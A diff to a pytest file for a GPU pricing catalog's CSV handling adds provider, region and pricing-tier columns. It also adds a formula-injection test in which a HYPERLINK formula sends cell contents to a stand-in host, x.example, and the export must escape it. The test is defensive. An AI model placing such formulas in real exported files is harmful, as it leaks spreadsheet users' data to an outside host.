@@ -26,7 +26,7 @@ DOCUMENTED = [
     "id", "name", "vendor", "memory_gib", "bf16_tflops", "bf16_supported", "memory_bandwidth_gb_s",
     "interconnect", "interconnect_gb_s", "on_demand_usd_per_hour", "spot_usd_per_hour",
     "price_as_of", "price_source", "memory_vendor_gb", "counting", "tdp_w", "year", "spec_source",
-    "notes",
+    "notes", "provider", "region", "pricing_tier",
 ]  # fmt: skip
 
 
@@ -43,6 +43,7 @@ def row(**kw) -> dict[str, str]:
         "interconnect": "pcie", "interconnect_gb_s": "64", "on_demand_usd_per_hour": "1.0",
         "spot_usd_per_hour": "", "price_as_of": "", "price_source": "", "memory_vendor_gb": "",
         "counting": "", "tdp_w": "", "year": "", "spec_source": "", "notes": "",
+        "provider": "", "region": "", "pricing_tier": "",
     }  # fmt: skip
     return {**base, **kw}
 
@@ -133,6 +134,7 @@ def test_empty_cells_mean_none_or_default():
     assert (g.memory_vendor_gb, g.tdp_w, g.year) == (None, None, None)
     assert (g.price_as_of, g.notes) == ("", "")
     assert g.bf16_supported is True and g.counting == "per_gpu"
+    assert (g.provider, g.region, g.pricing_tier) == ("", "", "on_demand")
 
 
 def test_optional_columns_may_be_left_out():
@@ -165,6 +167,8 @@ BAD_CELLS = {
     "bad bool": ("bf16_supported", "maybe", "yes/no"),
     "bad fabric": ("interconnect", "carrier pigeon", "'nvlink'"),
     "bad counting": ("counting", "per_card", "'per_gpu'"),
+    "bad tier": ("pricing_tier", "monthly", "'committed_1y'"),
+    "spot without a price": ("pricing_tier", "spot", "a spot row needs a spot price"),
     "bad year": ("year", "2024.5", "valid integer"),
     "negative tdp": ("tdp_w", "-5", "greater than 0"),
     "empty required": ("bf16_tflops", "", "required, but empty"),
@@ -209,7 +213,7 @@ def test_duplicate_ids_refused():
 
 
 def test_extra_cells_refused():
-    text = csv_text([row(id="a")]) + "b,B,NVIDIA,1,1,true,1,pcie,1,1,,,,,,,,,,surplus\r\n"
+    text = csv_text([row(id="a")]) + "b,B,NVIDIA,1,1,true,1,pcie,1,1,,,,,,,,,,,,,surplus\r\n"
     gpus, errors = loads_csv(text)
     assert [g.id for g in gpus] == ["a"]
     assert [(e.line, e.reason, e.value) for e in errors] == [
@@ -251,3 +255,45 @@ def test_export_error_is_one_line(tmp_path):
     blocker.write_text("")
     with pytest.raises(CatalogError, match="cannot write"):
         export_csv(builtin_catalog().gpus, blocker / "sub" / "x.csv")
+
+
+# --- Provider, region and pricing tier (issue 16) ---------------------------------------------
+
+
+def test_provider_region_and_tier_columns():
+    rows = [
+        row(id="a10-aws", provider="AWS", region="us-east-1", pricing_tier="committed_1y"),
+        row(id="a10-spot", provider="Vast.ai", pricing_tier="spot", spot_usd_per_hour="0.4"),
+    ]
+    gpus, errors = loads_csv(csv_text(rows))
+    assert errors == []
+    assert [(g.provider, g.region, g.pricing_tier) for g in gpus] == [
+        ("AWS", "us-east-1", "committed_1y"),
+        ("Vast.ai", "", "spot"),
+    ]
+    assert loads_csv(dumps_csv(gpus)) == (gpus, [])
+
+
+# --- Formula injection (issue 12) --------------------------------------------------------------
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
+def test_text_cells_never_start_a_formula(tmp_path, prefix):
+    evil = f'{prefix}HYPERLINK("http://x.example/?"&A1,"click")'
+    gpu = CatalogGpu.model_validate(
+        {
+            **builtin_catalog().find("l4").model_dump(),
+            "id": f"{prefix}id",
+            "name": evil,
+            "vendor": evil,
+            "notes": evil,
+            "provider": f"{prefix}1+1",
+        }
+    )
+    path = tmp_path / "evil.csv"
+    export_csv([gpu], path)
+    cells = next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+    for column in ("id", "name", "vendor", "notes", "provider"):
+        assert cells[column].startswith("'" + prefix), column
+    # Numbers are written by ftcost (never a formula); importing gives the same row back.
+    assert import_csv(path) == ([gpu], [])
